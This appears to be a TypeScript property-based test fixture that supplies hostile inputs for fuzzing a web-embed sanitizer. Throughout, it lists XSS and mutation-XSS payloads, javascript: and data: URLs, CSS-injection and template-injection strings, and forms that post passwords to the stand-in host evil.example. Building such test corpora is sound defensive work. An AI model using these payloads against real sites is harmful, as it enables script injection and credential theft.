import fc from 'fast-check';
import { RAN } from './pasted-page.js';

export const EVIL = 'https://evil.example/collect';

/** Addresses that run, hide where they lead, or lead elsewhere. */
export const HOSTILE_ADDRESSES: readonly string[] = [
  `javascript:${RAN}`,
  `JavaScript:${RAN}`,
  `java\tscript:${RAN}`,
  `java\nscript:${RAN}`,
  `\u0001javascript:${RAN}`,
  `  javascript:${RAN}`,
  `data:text/html,<script>${RAN}</script>`,
  `vbscript:x`,
  `blob:https://evil.example/1`,
  `view-source:https://evil.example/`,
  'https:evil.example/x',
  'http:evil.example/x',
  '//evil.example/x',
  '\\\\evil.example\\x',
  '/\\evil.example/x',
  'https://owner.example@evil.example/x',
  EVIL,
];

/** The same, as HTML can spell it. */
const SPELT: readonly string[] = [
  ...HOSTILE_ADDRESSES,
  `java&#115;cript:${RAN}`,
  `java&Tab;script:${RAN}`,
  `java&NewLine;script:${RAN}`,
  `&#x6a;avascript&colon;${RAN}`,
];

/** Markup that runs, loads, leads away or sends elsewhere; each was tried, or is a kind that sanitizers have let through. */
export const HOSTILE_MARKUP: readonly string[] = [
  `<script>${RAN}</script>`,
  `<script data-x="application/json" src=//evil.example/x.js></script>`,
  `<script type="application/json" src=//evil.example/x.js></script>`,
  `<script type="application/json">{"messages":{"a":"</script><script>${RAN}</script>"}}</script>`,
  `<script type="module">${RAN}</script>`,
  `<script type="application/json ">{"first":"x","second":"y","differences":[]}</script>`,
  `<img/onerror="${RAN}"/src=x>`,
  `<img src=x onerror=${RAN}>`,
  `<svg/onload="${RAN}">`,
  `<svg><script>${RAN}</script></svg>`,
  `<svg><a href="javascript:${RAN}"><text>x</text></a></svg>`,
  `<svg><a xlink:href="javascript:${RAN}"><text>x</text></a></svg>`,
  `<svg><animate attributeName=href to="javascript:${RAN}"></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id='x' onload='${RAN}'></svg>#x"></use></svg>`,
  `<svg><foreignObject><img src=x onerror="${RAN}"></foreignObject></svg>`,
  `<svg><style><img src=x onerror="${RAN}"></style></svg>`,
  `<svg></p><style><a id="</style><img src=x onerror=${RAN}>">`,
  `<svg><title><style></title><img src=x onerror="${RAN}">`,
  `<svg><rect fill="url(//evil.example/x)"></rect></svg>`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=${RAN}&gt;">`,
  `<math><annotation-xml encoding="text/html"><script>${RAN}</script></annotation-xml></math>`,
  `<math href="javascript:${RAN}">x</math>`,
  `<iframe srcdoc="&lt;script&gt;parent.${RAN}&lt;/script&gt;"></iframe>`,
  `<iframe src="javascript:parent.${RAN}"></iframe>`,
  `<iframe src=//evil.example></iframe>`,
  `<object data="data:text/html,<script>${RAN}</script>"></object>`,
  `<embed src="javascript:${RAN}">`,
  `<meta http-equiv=refresh content="0;url=https://evil.example/">`,
  `<link rel=stylesheet href=//evil.example/x.css>`,
  `<link rel=prerender href=//evil.example/>`,
  `<style>*{background:url(//evil.example/x)}</style>`,
  `<style onload="${RAN}"></style>`,
  `<base href=//evil.example/>`,
  `<template><script>${RAN}</script></template>`,
  `<template shadowrootmode=open><script>${RAN}</script></template>`,
  `<noscript><p title="</noscript><img src=x onerror=${RAN}>"></noscript>`,
  `<noembed><p title="</noembed><img src=x onerror=${RAN}>"></noembed>`,
  `<xmp><p title="</xmp><img src=x onerror=${RAN}>"></xmp>`,
  `<textarea><p title="</textarea><img src=x onerror=${RAN}>"></textarea>`,
  `<p title="--><img src=x onerror=${RAN}>"><!--`,
  `<!--><img src=x onerror=${RAN}>-->`,
  `<![CDATA[><img src=x onerror=${RAN}>]]>`,
  `<plaintext><img src=x onerror=${RAN}>`,
  `<video src=x onerror="${RAN}"></video>`,
  `<audio src=x onerror="${RAN}"></audio>`,
  `<details open ontoggle="${RAN}"><summary>x</summary></details>`,
  `<input/onfocus="${RAN}"/autofocus>`,
  `<select autofocus onfocus="${RAN}"></select>`,
  `<marquee onstart="${RAN}">x</marquee>`,
  `<body onload="${RAN}">`,
  `<div style="animation:x" onanimationstart="${RAN}"></div>`,
  `<div style="position:fixed;inset:0;background:url(//evil.example/x)">x</div>`,
  `<a href="${EVIL}" style="position:fixed;inset:0;opacity:0">x</a>`,
  `<a href="/x" ping="${EVIL}">x</a>`,
  `<a href="${EVIL}" target="_blank" rel="opener">x</a>`,
  `<form action="${EVIL}"><input type=password name=p><button>Log in</button></form>`,
  `<form action="/own"><button formaction="${EVIL}">Send</button></form>`,
  `<form action="/own"><input type=image src=/x.png formaction="javascript:${RAN}"></form>`,
  `<form id=a><div></form><form action="${EVIL}"><input name=b></form>`,
  `<form><math><mtext></form><form><mglyph><style></math><img src onerror="${RAN}">`,
  `<button form="login" formaction="${EVIL}">Send</button>`,
  `<input form="login" name="next" value="${EVIL}">`,
  `<form name="cookie"></form><img name="baseURI">`,
  `<brug-partner-form action="${EVIL}"></brug-partner-form>`,
  `<div class="brug-partner-form" data-action="${EVIL}"></div>`,
  `<div data-brug="partner-form" data-action="/wp-admin/admin-post.php"></div>`,
  `<x-y {...alert(1)}></x-y>`,
  `<p {...alert(1)}>x</p>`,
  `<p (click)="alert(1)" [innerhtml]="'x'" *ngif="x" #ref @click="x" :title="x" v-html="x" on:click="x" bind:value="x">x</p>`,
  `<p data-on-click="alert(1)" data-bind-innerhtml="x" bind-innerhtml="x" on-click="x()">x</p>`,
  `<p data-bind="click: alert(1)" data-hx-post="${EVIL}" x-init="alert(1)" hx-get="${EVIL}" ng-click="x">x</p>`,
  `<a data-method="post" data-remote="true" href="/logout">x</a>`,
  `<include-fragment src="${EVIL}"></include-fragment>`,
  `<p is="x-y">x</p>`,
  `<b><p><a><form><table><b></form><tr><td><form action=${EVIL}>`,
  `<table><td><form action="${EVIL}"><input><tr></form>`,
  `<a><b></a><p></b><script>${RAN}</script>`,
  `<select><option><script>${RAN}</script><img src=x onerror="${RAN}"></select>`,
  `<p>{{ constructor.constructor('${RAN}')() }} {% include 'x' %} [gallery] \${x}</p>`,
  ...SPELT.map((address) => `<a href="${address.replaceAll('"', '&quot;')}">x</a>`),
  ...SPELT.map((address) => `<form action="${address.replaceAll('"', '&quot;')}"><button>x</button></form>`),
];

/** Text that ends what it stands in, or is code to a platform. */
export const HOSTILE_TEXT: readonly string[] = [
  `"><script>${RAN}</script>`,
  `' onmouseover='${RAN}`,
  `" autofocus onfocus="${RAN}`,
  `</td></table></brug-difference-card><script>${RAN}</script>`,
  `</script><script>${RAN}</script>`,
  `--> <script>${RAN}</script> <!-- \${1} \`${RAN}\``,
  `</style><script>${RAN}</script>`,
  `{{ 'PHNjcmlwdD4=' | base64_decode }}{% raw %}{# x #}`,
  '[gallery ids="1"][[x]]',
  `{${RAN}}`,
  '&lt;script&gt;&#60;script&#62;',
  '\u2028\u2029\0',
  '__proto__',
  'constructor',
];

/** Values that leave their declaration, or swallow the rest of a style sheet. */
export const HOSTILE_CSS: readonly string[] = [
  'red; } body { display: none',
  'red } * { background: url(//evil.example/x)',
  'rgb(',
  'rgb(0 0 0',
  'var(--x, rgb(0 0 0)',
  'red) )',
  'rgb(0 0 0))',
  'calc((1px)',
  'url(//evil.example/x)',
  'image-set("//evil.example/x" 1x)',
  `</style><script>${RAN}</script>`,
  'red /*',
  '\\7d  body {',
  '[',
  "'",
  '@import',
  '<!--',
  'expression(alert(1))',
  'red !important',
];

const pick = (values: readonly string[]): fc.Arbitrary<string> => fc.constantFrom(...values);

/** Random markup: whole attempts, pieces of them, and letters that mean something, in one another. */
export const hostileMarkup: fc.Arbitrary<string> = fc
  .array(
    fc.oneof(
      { weight: 4, arbitrary: pick(HOSTILE_MARKUP) },
      {
        weight: 2,
        arbitrary: pick(['<p>', '</p>', '<b>', '</b>', '<a>', '<form>', '</form>', '<table><tr><td>', '</table>']),
      },
      {
        weight: 2,
        arbitrary: pick(['<svg>', '</svg>', '<math>', '<style>', '</style>', '<title>', '<!--', '-->', '<select>']),
      },
      {
        weight: 1,
        arbitrary: pick(['"', "'", '>', '<', '/>', '<p title="', '<p title=', '</', '&quot;', '<![CDATA[']),
      },
      { weight: 1, arbitrary: fc.string({ unit: 'grapheme', maxLength: 8 }) },
      {
        weight: 2,
        arbitrary: fc
          .tuple(pick(HOSTILE_MARKUP), fc.nat(200), fc.nat(200))
          .map(([text, from, length]) => text.slice(from % text.length, (from % text.length) + length)),
      },
    ),
    { maxLength: 6 },
  )
  .map((parts) => parts.join(''));

export const hostileText = fc.oneof(pick(HOSTILE_TEXT), pick(HOSTILE_MARKUP), fc.string({ unit: 'grapheme' }));
export const hostileAddress = fc.oneof(pick(HOSTILE_ADDRESSES), hostileText);
export const hostileCss = fc.oneof(pick(HOSTILE_CSS), fc.string({ maxLength: 12 }));

const attributeName = pick([
  ...['action', 'href', 'success-href', 'style', 'onclick', 'ONCLICK', 'id', 'class', 'data-crm', 'src', 'is', 'slot'],
  ...['{...alert(1)}', '(click)', '[x]', '@click', 'v-on:click', 'on:click', 'data-on-click', 'data-bind', 'x-init'],
  ...['__proto__', 'constructor', 'timeout', 'draft', 'formaction', 'srcdoc', 'data-brug', 'foo', 'a b', 'a"b', ''],
]);
const pairs = fc.array(fc.tuple(attributeName, hostileAddress), { maxLength: 3 });

/** What the part after `#` of a stranger's link may hold for an embed: any text at any place. */
export const hostileEmbed: fc.Arbitrary<Record<string, unknown>> = fc.record(
  {
    widget: pick(['difference-card', 'whitepaper-cta', 'partner-form']),
    heading: hostileText,
    headingLevel: fc.constantFrom(2, 9, 'x', null),
    lang: hostileText,
    looks: fc.record({
      theme: pick(['', 'corporate', '__proto__']),
      accent: hostileCss,
      first: hostileCss,
      second: hostileCss,
      radius: hostileCss,
      buttonRadius: hostileCss,
      headingWeight: hostileCss,
      line: hostileCss,
      focus: hostileCss,
      headingFont: hostileCss,
      fieldSurface: hostileCss,
      shadow: hostileCss,
      sticky: hostileCss,
    }),
    attributes: pairs,
    rest: hostileMarkup,
    first: hostileText,
    second: hostileText,
    rows: fc.array(
      fc.record({
        id: hostileText,
        topic: hostileText,
        first: hostileText,
        firstText: hostileText,
        second: hostileText,
        secondText: hostileText,
        note: hostileText,
      }),
      { maxLength: 2 },
    ),
    layout: hostileText,
    collapsible: fc.boolean(),
    intro: hostileText,
    href: hostileAddress,
    label: hostileText,
    filename: hostileText,
    cover: hostileAddress,
    coverAlt: hostileText,
    format: hostileText,
    text: hostileText,
    gate: pick(['none', 'soft', 'email']),
    delivery: fc.record({
      service: pick(['', 'none', 'salesforce', 'web3forms', 'hubspot', 'mailchimp', 'netlify', '__proto__']),
      action: hostileAddress,
      hidden: pairs,
      names: hostileText,
      enctype: hostileText,
    }),
    consent: pick(['none', 'required']),
    consentText: hostileText,
    privacyHref: hostileAddress,
    consentBy: hostileText,
    prefill: hostileText,
    attribution: hostileText,
    toolName: hostileText,
    toolDescription: hostileText,
    submitLabel: hostileText,
    messages: pairs,
    scan: fc.boolean(),
    name: hostileText,
    fields: hostileText,
    ownFields: fc.array(
      fc.record({
        label: hostileText,
        name: hostileText,
        type: pick(['text', 'textarea', 'select', 'radio', 'checkbox', 'file']),
        required: fc.boolean(),
        options: hostileText,
      }),
      { maxLength: 2 },
    ),
    ownForm: fc.oneof(
      fc.constant(''),
      hostileMarkup,
      hostileMarkup.map((inside) => `<form action="/own">${inside}</form>`),
    ),
    thanks: hostileText,
    successHref: hostileAddress,
    navigate: fc.boolean(),
    fallbackEmail: hostileText,
  },
  { requiredKeys: ['widget'] },
);
